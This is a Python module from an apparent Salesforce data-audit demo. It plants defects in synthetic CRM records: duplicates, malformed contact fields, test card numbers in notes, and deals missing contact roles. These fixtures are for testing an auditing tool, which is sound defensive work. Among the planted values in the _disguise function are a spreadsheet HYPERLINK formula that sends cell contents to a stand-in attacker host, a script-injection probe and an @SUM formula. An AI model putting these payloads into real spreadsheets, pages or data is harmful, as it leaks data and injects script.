"""What is wrong with accounts, contacts, leads, deals, cases and tasks, and with jobs.

The simple wounds are lines of `wounds.txt` and, of what came later, `hygiene.txt`; here are the phrases they use, and
what takes more than one column.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from sf_audit.demo.company.damage import Damage, Wound, inflict
from sf_audit.demo.company.hygiene import RAMBLING, WORKED_ON, damage_hygiene
from sf_audit.demo.company.tables import text

LATE = "NOT IsClosed AND StageName IN ('Proposal/Price Quote', 'Negotiation/Review')"
LEAVER = "pick(place, 'leaver', getvariable('leavers'))"
QUIET = " AND ".join(
    f'Id NOT IN (SELECT {reference} FROM "{table}" WHERE {reference} IS NOT NULL)'
    for table, reference in (
        ("Opportunity", "AccountId"),
        ("Case", "AccountId"),
        ("Task", "AccountId"),
        ("Event", "AccountId"),
        ("Service_Plan__c", "Account__c"),
    )
)


def words(*listed: str) -> str:
    """A value for each record hit, one after the other."""
    quoted = ", ".join("'" + value.replace("'", "''").replace("\n", "' || chr(10) || '") + "'" for value in listed)
    return f"([{quoted}])[1 + (place % {len(listed)})::INT]"


# A letter in front of each, so that a bad address is not a duplicate as well.
NO_MAIL = "chr(97 + place::INT) || '.' || " + words(
    "kim.larsen@", "info@@veloshop.com", "anna at cykelhuset.se", "shop@localhost", "j..smith@spokes.com"
)
NO_PHONE = words("see notes", "+1 212 55", "+353 1", "ask Maria", "+44 20 7946 0958 0958 0958", "call mobile")
NO_SITE = words("www", "http//alpine-bikes", "none", "htp:/velo.fr", "on request", "instagram")
NOBODY = words(
    "Test account", "asdf", "TBD", "Dummy", "n/a", "Unknown customer", "TEST - do not use", "xxx", "Sample 2"
)
PHRASES = {
    "late": LATE,
    "quiet": QUIET,
    "leaver": LEAVER,
    "no_mail": NO_MAIL,
    "no_phone": NO_PHONE,
    "no_site": NO_SITE,
    "nobody": NOBODY,
    "old_source": words("Purchased List", "Eurobike 2019"),
    "no_country": words("Bavaria", "see notes", "EMEA", "Scandinavia", "Europe"),
    "with_card": words("Please charge 4111 1111 1111 1111 again.", "Paid with 5500-0000-0000-0004, frame came late."),
    "mistyped": words("@gmial.com", "@hotmial.com", "@gmail.con"),
    "nameless": words("[not provided]", "N/A", "xxx", "???"),
    "nothing_said": f"nullif({words('', 'tbd', 'n/a')}, '')",
    "no_subject": words("", "n/a", "Test", "???"),
    "rambling": RAMBLING,
    "worked_on": WORKED_ON,
}


def listed_wounds(file: str) -> Iterator[Wound]:
    """The lines of a file: defect, object, how many, among which, what is done, and what is wrong then."""
    for line in text(file).splitlines():
        defect, kind, count, among, change, says = (part.strip() for part in re.split(r"\s\|\s", line))
        yield Wound(defect, kind, int(count), change.format_map(PHRASES), says, among.format_map(PHRASES))


def damage_records(damage: Damage) -> None:
    """Break records: those with one wound each, then pairs of duplicates and deals nobody stands for."""
    inflict(damage, listed_wounds("wounds.txt"))
    _repeat_accounts(damage)
    _repeat_mails(damage)
    _forget_contacts(damage, "opportunity-no-contact-role", 10, LATE, "At the stage of a quote, yet nobody to talk to.")
    early = "NOT IsClosed AND StageName IN ('Prospecting', 'Qualification')"
    _forget_contacts(damage, "trap-early-deal-without-contact", 9, early, "No contact role, but the deal is young.")
    _disguise(damage)
    inflict(damage, listed_wounds("hygiene.txt"))
    damage_hygiene(damage)


def _repeat_accounts(damage: Damage) -> None:
    """Eight accounts get the name and country of another one, written a little differently."""
    change = (
        "Name = ([upper(first.Name), lower(first.Name), ' ' || upper(first.Name), first.Name || ' '])"
        "[1 + (hit.place % 4)::INT], BillingCountry = first.BillingCountry,"
        " BillingPostalCode = first.BillingPostalCode, Region__c = first.Region__c"
    )
    says = "Another account has the same name in the same country."
    damage.repeat(Wound("account-duplicate", "Account", 16, change, says))


def _repeat_mails(damage: Damage) -> None:
    change = "Email = CASE WHEN hit.place % 2 = 0 THEN first.Email ELSE upper(first.Email) END"
    says = "Another contact has the same e-mail address."
    damage.repeat(Wound("contact-duplicate-email", "Contact", 18, change, says))


def _forget_contacts(damage: Damage, defect: str, count: int, among: str, says: str) -> None:
    damage.hurt(Wound(defect, "Opportunity", count, "", says, among))
    damage.rows.execute("DELETE FROM OpportunityContactRole WHERE OpportunityId IN (SELECT Id FROM hit)")


def _disguise(damage: Damage) -> None:
    """Values that break careless readers: formulas, markup, words that look like nothing or like a number."""
    says = "The text is odd or hostile, but the record is complete."
    shops = words(
        '=HYPERLINK("https://collect.evil-bikes.com/?"&A1,"Invoice")',
        '<script>alert("bikes")</script>',
        'Bob "The Wheel" O\'Neil & Söhne, s.r.o.',
        "自転車工房 さくら",
        "007",
        "1e5",
        "@SUM(A1:A9) Cycles",
        "Δίκυκλο — Велосипед",
    )
    damage.hurt(Wound("trap-hostile-text", "Account", 8, f"Name = {shops}", says))
    damage.hurt(Wound("trap-hostile-text", "Contact", 3, f"LastName = {words('Null', 'True', 'NaN')}", says))
    damage.rows.execute("UPDATE Contact SET Name = FirstName || ' ' || LastName WHERE Id IN (SELECT Id FROM hit)")
    notes = words('Line one\nLine two, with "quotes"', "+49 30 is not a number\n\n=1+1", "NA")
    damage.hurt(Wound("trap-hostile-text", "Lead", 3, f"Description = {notes}", says))
